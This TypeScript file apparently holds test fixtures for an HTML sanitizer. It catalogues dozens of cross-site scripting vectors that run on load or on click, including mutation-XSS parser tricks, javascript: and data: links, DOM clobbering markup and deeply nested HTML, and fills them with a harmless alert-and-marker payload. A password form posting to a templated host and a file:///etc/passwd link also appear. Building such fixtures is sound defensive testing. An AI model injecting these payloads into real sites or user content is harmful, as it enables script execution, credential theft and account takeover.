/** HTML that runs a script when left alone. `P` stands for the script. */
const AT_ONCE: Readonly<Record<string, string>> = {
  script: '<script>P</script>',
  'script-upper-case': '<ScRiPt\n type="text/javascript"\n>P</sCrIpT\t\n>',
  'script-data': '<script src="data:text/javascript,P"></script>',
  'script-module': '<script type="module">P</script>',
  'script-in-svg': '<svg><script>P</script></svg>',
  'script-svg-href': '<svg><script href="data:text/javascript,P" /></svg>',
  'script-xlink': '<svg><script xlink:href="data:,P"></script></svg>',
  'script-cdata': '<svg><script><![CDATA[P]]></script></svg>',
  'script-entities': '<svg><script>&#x61;lert(0),P</script></svg>',
  'img-error': '<img src="x:" onerror="P">',
  'img-error-slashes': '<img/src="x:"/onerror="P"/alt=x/>',
  'img-error-lines': '<img\nsrc=x:\n\tonerror\n=\nP>',
  'img-error-case': '<IMG SRC=x: OnErRoR=P>',
  'img-error-quotes': `<img alt='x" y="' src='x:" onerror=no' onerror='P'>`,
  'img-load': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="P" onload="P">',
  'image-error': '<image src=x: onerror="P">',
  'input-error': '<input type="image" src="x:" onerror="P">',
  'input-focus': '<input autofocus onfocus="P">',
  'svg-load': '<svg onload="P">',
  'svg-load-slash': '<svg/onload=P>',
  'svg-begin': '<svg><animate onbegin="P" attributeName="x" dur="60s"></svg>',
  'svg-set-begin': '<svg><set onbegin=P attributeName=x dur=1s></svg>',
  'svg-title-break': '<svg><title><img src=x: onerror=P></title></svg>',
  'svg-style-img': '<svg><style><img src=x: onerror=P></style></svg>',
  'svg-foreign': '<svg><foreignObject><body onload="P"><iframe srcdoc="" onload=P></iframe></foreignObject></svg>',
  'svg-in-math': '<math><mtext><svg><desc><img src=x: onerror=P></desc></svg></mtext></math>',
  'math-glyph': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=P&gt;" src=x: onerror=P>',
  'math-form': '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=P>',
  'math-annotation': '<math><annotation-xml encoding="text/html"><img src=x: onerror=P></annotation-xml></math>',
  'body-load': '<body onload="P">',
  'body-page-show': '<body onpageshow=P title="bgcolor=x" class="y onload=no">',
  'iframe-load': '<iframe onload="P"></iframe>',
  'iframe-srcdoc': '<iframe srcdoc="<script>P</script>"></iframe>',
  'iframe-srcdoc-entities': '<iframe srcdoc="&lt;img src=x: onerror=&quot;P&quot;&gt;"></iframe>',
  'iframe-javascript': '<iframe src="javascript:P"></iframe>',
  'iframe-javascript-tab': '<iframe src="java&Tab;scr&NewLine;ipt&colon;P"></iframe>',
  'object-javascript': '<object data="x:" onerror="P"></object>',
  'embed-javascript': '<embed src="javascript:P">',
  'video-error': '<video src="x:" onerror="P"></video>',
  'video-source-error': '<video><source onerror="P"></video>',
  'audio-error': '<audio src=x: onerror=P>',
  'details-toggle': '<details open ontoggle="P">x</details>',
  'marquee-start': '<marquee onstart="P">x</marquee>',
  'style-load': '<style onload="P"></style>',
  'link-error': '<link rel="stylesheet" href="x:" onerror="P">',
  'animation-start': '<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="P">x</b>',
  'transition-scroll': '<p onscrollend=P style="overflow:auto;height:9px" onanimationend=P><style>@keyframes q{}p{animation:q 1ms}</style>x',
  'noscript-attribute': '<noscript><p title="</noscript><img src=x: onerror=P>"></noscript>',
  'noscript-style': '<noscript><style></noscript><img src=x: onerror=P></style>',
  'noembed-attribute': '<noembed><b title="</noembed><img src=x: onerror=P>"></noembed>',
  'noframes-attribute': '<noframes><b title="</noframes><img src=x: onerror=P>"></noframes>',
  'title-attribute': '<title><b title="</title><img src=x: onerror=P>"></title>',
  'textarea-attribute': '<textarea><b title="</textarea><img src=x: onerror=P>"></textarea>',
  'xmp-attribute': '<xmp><b title="</xmp><img src=x: onerror=P>"></xmp>',
  'style-attribute': '<style><b title="</style><img src=x: onerror=P>"></style>',
  'style-content': `<style>p{content:"</style><img src=x: onerror=P>"}</style>`,
  'iframe-attribute': '<iframe><b title="</iframe><img src=x: onerror=P>"></iframe>',
  'comment-short': '<!--><img src=x: onerror=P>-->',
  'comment-dash': '<!---><img src=x: onerror=P>-->',
  'comment-bang': '<!--x--!><img src=x: onerror=P>-->',
  'comment-conditional': '<!--[if gte mso 9]><![endif]--><![if !mso]><img src=x: onerror=P><![endif]>',
  'cdata-html': '<![CDATA[<img src="]]><img src=x: onerror=P>">',
  'instruction-html': '<?php echo "><img src=x: onerror=P>',
  'joined-by-removal': '<scr<script></script>ipt>P</script><img src=x: onerror=P>',
  'nul-in-names': '<img src=x: o\0nerror=P onerror\0=P onerror=P>',
  'foster-parent': '<table><tr><img src=x: onerror=P><td>x<p></table>',
  'select-break': '<select><option></select><img src=x: onerror=P>',
  'template-shadow': '<div><template shadowrootmode="open"><img src=x: onerror=P></template></div>',
  'xml-namespace': '<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>P</x:script><img src=x: onerror=P>',
}; // prettier-ignore

/** What older or other browsers run at once, and what only runs after it was written out and parsed again. */
const QUIET = new Set(['math-form', 'object-javascript', 'embed-javascript', 'marquee-start']);

/** HTML that runs a script when it is clicked or passed over, or that leads somewhere it must not. */
const ON_TOUCH: Readonly<Record<string, string>> = {
  click: '<b onclick="P" onauxclick="P" ondblclick=P>x</b>',
  pointer: '<div onmouseover=P onpointerenter="P" onpointerdown=P onwheel="P">x</div>',
  'href-plain': '<a href="javascript:P">x</a>',
  'href-case': '<a href="JaVaScRiPt:P">x</a>',
  'href-tab': '<a href="java&#9;script:P">x</a>',
  'href-line': '<a href="java\nscript:P">x</a>',
  'href-entities': '<a href="&#x6a;avascript&colon;P">x</a>',
  'href-control': '<a href="&#1;&#14; javascript:P">x</a>',
  'href-comment': '<a href="javascript://https://postern.example/%0aP">x</a>',
  'href-new-window': '<a target="_blank" href="javascript:P">x</a>',
  'href-top': '<a target="_top" href="javascript:P">x</a>',
  'href-data': '<a href="data:text/html,<script>P</script>">x</a>',
  'href-data-xhtml': '<a href="data:application/xhtml+xml,<x/>">x</a>',
  'href-vbscript': '<a href="vbscript:P">x</a>',
  'href-blob': '<a href="blob:http://127.0.0.1/1">x</a>',
  'href-view-source': '<a href="view-source:http://127.0.0.1/">x</a>',
  'href-file': '<a href="file:///etc/passwd">x</a>',
  'href-unc': '<a href="\\\\host\\share">x</a>',
  'href-office': '<a href="ms-word:ofe|u|http://127.0.0.1/">x</a>',
  'href-intent': '<a href="intent://x#Intent;scheme=http;end">x</a>',
  'href-feed': '<a href="feed:javascript:P">x</a>',
  'href-own': '<a href="/api/v1/me">x</a>',
  'href-twice': '<a href="https://a.example/" href="javascript:P">x</a>',
  'svg-link': '<svg><a xlink:href="javascript:P"><text y="9">x</text></a></svg>',
  'svg-link-animated':
    '<svg><a><animate attributeName="href" values="javascript:P"/><text y="9">x</text></a></svg>',
  'svg-link-set': '<svg><a><set attributeName="xlink:href" to="javascript:P"/><text y="9">x</text></a></svg>',
  'math-link': '<math href="javascript:P"><mi xlink:href="javascript:P">x</mi></math>',
  area: '<map name="m"><area href="javascript:P" shape="default"></map><img usemap="#m" alt="x">',
  base: '<base href="javascript:P//"><a href="#">x</a>',
  'form-action': '<form action="javascript:P"><button>x</button></form>',
  'form-button': '<form><button formaction="javascript:P">x</button></form>',
  'form-outside': '<form id="f"></form><button form="f" formaction="javascript:P">x</button>',
  'form-password':
    '<form action="http://HOST/form" method="post"><input type="password" name="p" value="x"><input type="submit"></form>',
  'meta-javascript': '<meta http-equiv="refresh" content="0;url=javascript:P">',
  'meta-data': '<meta http-equiv="refresh" content="0;url=data:text/html,<script>P</script>">',
  'meta-away': '<meta http-equiv="refresh" content="0;url=http://HOST/away">',
  popover: '<button popovertarget="p">x</button><div id="p" popover onbeforetoggle="P">x</div>',
  editable: '<div contenteditable autofocus tabindex="0" oninput="P" onfocus="P" onkeydown="P">x</div>',
}; // prettier-ignore

/** HTML that gets in the way of code that trusts the names of a document. */
const CLOBBERING: Readonly<Record<string, string>> = {
  'form-body': '<form name="body"><input name="firstChild"></form>',
  'form-attributes': '<form onclick="P"><input name="attributes"><input name="getAttributeNames">x</form>',
  'form-nodes': '<form id="x"><input name="childNodes"><input name="parentNode"><input name="remove"></form>',
  'img-names': '<img name="getElementById"><img name="createElement"><img name="head"><img name="defaultView">',
  'own-ids': '<div id="root">x</div><div id="__pwned"></div><a id="document"></a><a id="top"></a>',
  prototype: '<a id="__proto__" name="constructor" class="__proto__">x</a>',
  'iframe-names': '<iframe name="parent"></iframe><iframe name="self"></iframe>',
}; // prettier-ignore

/** HTML that only wants to be too much. */
const TOO_MUCH: Readonly<Record<string, string>> = {
  nested: `${'<div>'.repeat(5_000)}deep`,
  'nested-odd': `${'<b><p><i><table><tr><td>'.repeat(400)}deep`,
  unclosed: '<font color=red><a href="https://a.example/'.repeat(300),
  attributes: `<p ${Array.from({ length: 3_000 }, (_, index) => `a${String(index)}="1"`).join(' ')}>x</p>`,
  lists: `${'<ul><li>'.repeat(1_500)}deep`,
};

export interface ScriptVector {
  readonly name: string;
  readonly html: string;
  readonly runsAtOnce: boolean;
}

/** Every construct; its script raises a dialog and sets `__pwned` of the outermost page to its name. */
export function scriptVectors(host: string): ScriptVector[] {
  return Object.entries({ ...ON_TOUCH, ...CLOBBERING, ...TOO_MUCH, ...AT_ONCE }).map(([name, template]) => ({
    name,
    html: template.replaceAll('HOST', host).replaceAll(/\bP\b/g, payload(name)),
    runsAtOnce: Object.hasOwn(AT_ONCE, name) && !QUIET.has(name),
  }));
}

/** Without blanks and quotation marks, so that it stands anywhere. */
export function payload(name: string): string {
  return `alert(0),top.__pwned=/${name}/`;
}
